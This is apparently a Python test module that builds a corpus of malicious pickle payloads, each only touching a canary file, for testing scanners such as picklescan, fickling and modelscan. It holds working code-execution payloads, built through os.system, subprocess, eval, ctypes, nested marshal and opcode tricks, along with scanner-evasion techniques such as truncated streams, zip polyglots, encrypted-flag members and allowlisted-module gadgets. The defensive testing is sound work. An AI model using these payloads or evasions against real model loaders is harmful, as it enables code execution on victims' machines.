"""A corpus of malicious pickles, built at test time, each of which only creates a canary file.

Techniques come from the public advisories against picklescan, fickling and modelscan and from
the pickle format itself: direct and indirect code execution, import and getattr chains,
functools/operator indirection, interpreter tools that run code (runpy, code, cProfile,
profile, timeit, pydoc), nested deserialisation (pickle, marshal), ctypes, the BUILD
``__setstate__`` trick, every way the unpickler resolves a global (GLOBAL, STACK_GLOBAL with
strings from the memo and from every string opcode, INST, OBJ, EXT1/2/4, Python 2 names,
dotted names), concatenated and truncated streams, and zip archives with odd names.

``Payload.build(canary)`` returns the bytes; ``Payload.live`` says whether the real
``pickle.loads`` (in a child process, see ``run_live``) creates the canary, which proves the
payload is a real attack and not a strawman.
"""

from __future__ import annotations

import io
import marshal
import pickle
import struct
import zipfile
from collections.abc import Callable

import attrs


@attrs.frozen
class Payload:
    name: str
    build: Callable[[str], bytes]
    live: bool = True  # the real unpickler creates the canary (checked in a child process)
    setup: str = ""  # Python run in the child before loading (an extension registration, say)
    archive: bool = False  # a zip: the live check loads the member holding the pickle


def touch(canary: str) -> str:
    return f"open({canary!r}, 'w').close()"


def shell(canary: str) -> str:
    return f"touch {canary}"


# -- opcode helpers ---------------------------------------------------------------------------


def text(value: str) -> bytes:
    """A protocol-0 string argument, as ``S'...'`` needs it."""
    return b"S" + repr(value).encode() + b"\n"


def short_unicode(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def unicode8(value: str) -> bytes:
    data = value.encode()
    return b"\x8d" + struct.pack("<Q", len(data)) + data


def binunicode(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def binbytes(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def proto4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def call_global(module: str, name: str, *args: bytes) -> bytes:
    """Protocol 0: ``module.name(*args)`` with GLOBAL and REDUCE."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n(" + b"".join(args) + b"tR"


# -- payloads ---------------------------------------------------------------------------------


class _Reduce:
    def __init__(self, func: object, *args: object) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return (self.func, self.args)


def reduce_payload(
    func_path: str, make_args: Callable[[str], tuple[object, ...]], protocol: int
) -> Callable[[str], bytes]:
    def build(canary: str) -> bytes:
        module, _, name = func_path.rpartition(".")
        func = getattr(__import__(module, fromlist=[name]), name)
        return pickle.dumps(_Reduce(func, *make_args(canary)), protocol=protocol)

    return build


def os_system_all_protocols() -> list[Payload]:
    return [
        Payload(f"os.system protocol {p}", reduce_payload("os.system", lambda c: (shell(c),), p))
        for p in range(pickle.HIGHEST_PROTOCOL + 1)
    ]


def raw(body: Callable[[str], bytes]) -> Callable[[str], bytes]:
    return body


def _getattr_chain(canary: str) -> bytes:
    # getattr(__import__('os'), 'system')('touch canary')
    imported = call_global("builtins", "__import__", text("os"))
    attr = b"cbuiltins\ngetattr\n(" + imported + text("system") + b"tR"
    return attr + b"(" + text(shell(canary)) + b"tR."


def _stack_global_from_memo(canary: str) -> bytes:
    # module and name are memoised first, then fetched with BINGET for STACK_GLOBAL
    body = (
        short_unicode("posix")
        + b"\x94"  # MEMOIZE 0
        + short_unicode("system")
        + b"\x94"  # MEMOIZE 1
        + b"0"  # POP the name, leaving the module
        + b"0"  # POP the module
        + b"h\x00h\x01\x93"  # BINGET 0, BINGET 1, STACK_GLOBAL
        + short_unicode(shell(canary))
        + b"\x85R"  # TUPLE1, REDUCE
    )
    return proto4(body)


def _stack_global_mixed_strings(canary: str) -> bytes:
    body = unicode8("posix") + binunicode("system") + b"\x93" + short_unicode(shell(canary)) + b"\x85R"
    return proto4(body)


def _inst(canary: str) -> bytes:
    return b"(" + text(shell(canary)) + b"iposix\nsystem\n."


def _obj(canary: str) -> bytes:
    return b"(cposix\nsystem\n" + text(shell(canary)) + b"o."


def _ext(code: int) -> Callable[[str], bytes]:
    def build(canary: str) -> bytes:
        if code < 0x100:
            op = b"\x82" + bytes([code])
        elif code < 0x10000:
            op = b"\x83" + struct.pack("<H", code)
        else:
            op = b"\x84" + struct.pack("<i", code)
        return b"\x80\x02" + op + b"(" + text(shell(canary)) + b"tR."

    return build


def _python2_builtin_eval(canary: str) -> bytes:
    return call_global("__builtin__", "eval", text(touch(canary))) + b"."


def _python2_commands(canary: str) -> bytes:
    return call_global("commands", "getoutput", text(shell(canary))) + b"."


def _dotted_traversal(canary: str) -> bytes:
    # logging imports os: the protocol 4 unpickler resolves logging + "os.system"
    return proto4(
        short_unicode("logging")
        + short_unicode("os.system")
        + b"\x93"
        + short_unicode(shell(canary))
        + b"\x85R"
    )


def _functools_partial(canary: str) -> bytes:
    partial = b"cfunctools\npartial\n(cposix\nsystem\n" + text(shell(canary)) + b"tR"
    return partial + b")R."


def _operator_methodcaller(canary: str) -> bytes:
    caller = call_global("operator", "methodcaller", text("system"), text(shell(canary)))
    return caller + b"(" + call_global("builtins", "__import__", text("os")) + b"tR."


def _operator_attrgetter(canary: str) -> bytes:
    getter = call_global("operator", "attrgetter", text("system"))
    system = getter + b"(" + call_global("importlib", "import_module", text("os")) + b"tR"
    return system + b"(" + text(shell(canary)) + b"tR."


def _nested_pickle(canary: str) -> bytes:
    inner = pickle.dumps(_Reduce(__import__("os").system, shell(canary)), protocol=0)
    return b"\x80\x03c_pickle\nloads\n(" + binbytes(inner) + b"tR."


def _marshal_function(canary: str) -> bytes:
    code = marshal.dumps(compile(touch(canary), "<payload>", "exec"))
    function = b"\x80\x04ctypes\nFunctionType\n(cmarshal\nloads\n(" + binbytes(code) + b"tR}tR"
    return function + b")R."


def _ctypes_libc(canary: str) -> bytes:
    libc = call_global("ctypes", "CDLL", b"N")
    system = b"cbuiltins\ngetattr\n(" + libc + text("system") + b"tR"
    return system + b"(" + binbytes(shell(canary).encode()) + b"tR."


def _build_setstate(canary: str) -> bytes:
    # an ordinary object; BUILD puts os.system in its __dict__ as __setstate__, and the next
    # BUILD calls it with the command as "state"
    obj = b"ccollections\nOrderedDict\n)R"
    first = b"(S'__setstate__'\ncposix\nsystem\nd" + b"b"
    return obj + first + text(shell(canary)) + b"b."


def _newobj_popen(canary: str) -> bytes:
    return b"\x80\x02csubprocess\nPopen\n(" + text(shell(canary)) + b"t\x81."


def _concatenated(canary: str) -> bytes:
    return pickle.dumps({"weights": [1.0, 2.0]}) + pickle.dumps(
        _Reduce(__import__("os").system, shell(canary))
    )


def _truncated(canary: str) -> bytes:
    whole = pickle.dumps([_Reduce(__import__("os").system, shell(canary)), list(range(50))], protocol=2)
    return whole[:-20]  # the REDUCE has already run when the stream ends


def _zip(
    member: str, payload: Callable[[str], bytes], prefix: bytes = b"", flag: int = 0
) -> Callable[[str], bytes]:
    def build(canary: str) -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("archive/version", "3\n")
            archive.writestr(member, payload(canary))
            archive.writestr("archive/data/0", bytes(range(256)) * 4)
        return prefix + buffer.getvalue()

    return build


def _pickle_then_zip(canary: str) -> bytes:
    """A polyglot: a benign pickle for pickle.load, a malicious zip for zip-reading loaders."""
    return pickle.dumps([1, 2, 3]) + _zip(
        "archive/data.pkl", reduce_payload("os.system", lambda c: (shell(c),), 2)
    )(canary)


def _method_on_instance(
    module: str, cls: str, method: str, args: Callable[[str], bytes]
) -> Callable[[str], bytes]:
    """``module.cls.method(module.cls(), *args)``: a method reached through a dotted name, on
    an instance fetched back from the memo (protocol 4)."""

    def build(canary: str) -> bytes:
        instance = short_unicode(module) + short_unicode(cls) + b"\x93)R\x94" + b"0"  # build, memoise, pop
        method_ref = short_unicode(module) + short_unicode(f"{cls}.{method}") + b"\x93"
        return proto4(instance + method_ref + b"(h\x00" + args(canary) + b"tR")

    return build


def _open_for_writing(canary: str) -> bytes:
    return call_global("builtins", "open", text(canary), text("w")) + b"."


def _socket(canary: str) -> bytes:
    return call_global("socket", "create_connection", b"(" + text("127.0.0.1") + b"I9\ntp0\n") + b"."


def _pip(canary: str) -> bytes:
    return call_global("pip", "main", b"(lp0\n" + text("--version") + b"a") + b"."


def _encrypted_flag(canary: str) -> bytes:
    """A zip whose member claims to be encrypted: a scanner that skips what it cannot read
    passes it; a loader that ignores the flag would still read the (plain) pickle."""
    data = bytearray(_zip("archive/data.pkl", reduce_payload("os.system", lambda c: (shell(c),), 2))(canary))
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            data[start + flag_offset] |= 0x01
            start += 4
    return bytes(data)


def _protoless(canary: str) -> bytes:
    """Protocol 4 opcodes without the PROTO header: pickle.load does not need it."""
    return (
        short_unicode("posix") + short_unicode("system") + b"\x93" + short_unicode(shell(canary)) + b"\x85R."
    )


def _long_first_opcode(canary: str, length: int = 5000) -> bytes:
    return text("a" * length) + b"0" + call_global("posix", "system", text(shell(canary))) + b"."


def _outrunning_first_opcode(canary: str) -> bytes:
    """A first opcode (BINUNICODE) longer than any look-ahead a scanner reads to decide
    whether a stream, or an archive member, is a pickle at all."""
    return b"X" + struct.pack("<I", 100_000) + b"a" * 100_000 + b"0" + _eval(canary)


def _benign_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("README", "nothing to see")
    return buffer.getvalue()


def _eval(canary: str) -> bytes:
    return call_global("builtins", "eval", text(touch(canary))) + b"."


def _exec(canary: str) -> bytes:
    return call_global("builtins", "exec", text(touch(canary))) + b"."


def build_corpus() -> list[Payload]:
    live_calls: list[tuple[str, str, Callable[[str], tuple[object, ...]]]] = [
        ("subprocess.call", "subprocess.call", lambda c: (["touch", c],)),
        ("subprocess.check_output", "subprocess.check_output", lambda c: (["touch", c],)),
        ("subprocess.Popen", "subprocess.Popen", lambda c: (["touch", c],)),
        ("posix.system", "posix.system", lambda c: (shell(c),)),
        ("runpy._run_code", "runpy._run_code", lambda c: (touch(c), {})),
        ("cProfile.run", "cProfile.run", lambda c: (touch(c),)),
        ("profile.run", "profile.run", lambda c: (touch(c),)),
        ("timeit.timeit", "timeit.timeit", lambda c: ("raise ValueError", touch(c))),  # setup runs once
        ("pydoc.pipepager", "pydoc.pipepager", lambda c: ("x", shell(c))),
    ]
    corpus = os_system_all_protocols()
    corpus += [Payload(name, reduce_payload(path, args, 2)) for name, path, args in live_calls]
    corpus += [
        Payload("builtins.eval", _eval),
        Payload("builtins.exec", _exec),
        Payload("getattr(__import__('os'), 'system')", _getattr_chain),
        Payload("STACK_GLOBAL from memoised strings", _stack_global_from_memo),
        Payload("STACK_GLOBAL from BINUNICODE8 and BINUNICODE", _stack_global_mixed_strings),
        Payload("INST opcode", _inst),
        Payload("OBJ opcode", _obj),
        Payload(
            "EXT1 extension code",
            _ext(0xF1),
            setup="import copyreg; copyreg.add_extension('posix', 'system', 0xF1)",
        ),
        Payload(
            "EXT2 extension code",
            _ext(0x1F2),
            setup="import copyreg; copyreg.add_extension('posix', 'system', 0x1F2)",
        ),
        Payload(
            "EXT4 extension code",
            _ext(0x1F2F3),
            setup="import copyreg; copyreg.add_extension('posix', 'system', 0x1F2F3)",
        ),
        Payload("Python 2 __builtin__.eval", _python2_builtin_eval),
        Payload("Python 2 commands.getoutput", _python2_commands),
        Payload("dotted name logging.os.system", _dotted_traversal),
        Payload("functools.partial", _functools_partial),
        Payload("operator.methodcaller", _operator_methodcaller),
        Payload("operator.attrgetter + importlib", _operator_attrgetter),
        Payload("nested pickle.loads", _nested_pickle),
        Payload("marshal code + types.FunctionType", _marshal_function),
        Payload("ctypes libc system", _ctypes_libc),
        Payload("BUILD __setstate__ smuggling", _build_setstate),
        Payload("NEWOBJ subprocess.Popen", _newobj_popen, live=False),
        Payload("builtins.open for writing", _open_for_writing),
        Payload("socket.create_connection", _socket, live=False),
        Payload("pip.main", _pip, live=False),
        Payload(
            "code.InteractiveInterpreter.runsource on a memoised instance",
            _method_on_instance(
                "code", "InteractiveInterpreter", "runsource", lambda c: short_unicode(touch(c))
            ),
        ),
        Payload(
            "trace.Trace.runctx on a memoised instance",
            _method_on_instance("trace", "Trace", "runctx", lambda c: short_unicode(touch(c)) + b"}}"),
        ),
        Payload("zip member flagged as encrypted", _encrypted_flag, live=False),
        Payload(
            "allowlisted package gadget: sklearn.utils._testing script runner",
            reduce_payload(
                "sklearn.utils._testing.assert_run_python_script_without_output", lambda c: (touch(c),), 2
            ),
        ),
        Payload(
            "dotted walk from an allowlisted module: sklearn.base np.testing runstring",
            lambda c: proto4(
                short_unicode("sklearn.base")
                + short_unicode("np.testing._private.utils.runstring")
                + b"\x93"
                + short_unicode(touch(c))
                + b"}\x86R"
            ),
        ),
        Payload(
            "_operator.methodcaller on logging.os",
            lambda c: (
                call_global("_operator", "methodcaller", text("system"), text(shell(c)))
                + b"(clogging\nos\ntR."
            ),
        ),
        Payload("PROTO-less protocol 4 stream", _protoless),
        Payload("text pickle whose first opcode is 5000 bytes long", _long_first_opcode),
        Payload("first opcode longer than 64 KiB", _outrunning_first_opcode),
        Payload(
            "zip member whose first opcode outruns the look-ahead",
            _zip("archive/data.pkl", _outrunning_first_opcode),
            archive=True,
        ),
        Payload("PROTO-less stream with a benign zip appended", lambda c: _protoless(c) + _benign_zip()),
        Payload(
            "zip member with a byte after STOP",
            _zip("archive/data.pkl", lambda c: _eval(c) + b"\n"),
            archive=True,
        ),
        Payload("zip member starting without PROTO", _zip("archive/data.pkl", _protoless), archive=True),
        Payload(
            "module __getattr__ hook",
            lambda c: call_global("sklearn", "__getattr__", text("datasets")) + b".",
            live=False,
        ),
        Payload("benign pickle then malicious pickle", _concatenated),
        Payload("truncated after REDUCE", _truncated),
        Payload(
            "PyTorch-style archive/data.pkl",
            _zip("archive/data.pkl", reduce_payload("os.system", lambda c: (shell(c),), 2)),
            archive=True,
        ),
        Payload(
            "zip member with an odd name",
            _zip("weights/layer0.bin", reduce_payload("os.system", lambda c: (shell(c),), 4)),
            archive=True,
        ),
        Payload("protocol 0 pickle in a zip", _zip("model.npz", _eval), archive=True),
        Payload(
            "zip with data prepended", _zip("archive/data.pkl", _exec, prefix=b"\x00" * 64), archive=True
        ),
        Payload("benign pickle + malicious zip polyglot", _pickle_then_zip, archive=True),
    ]
    return corpus
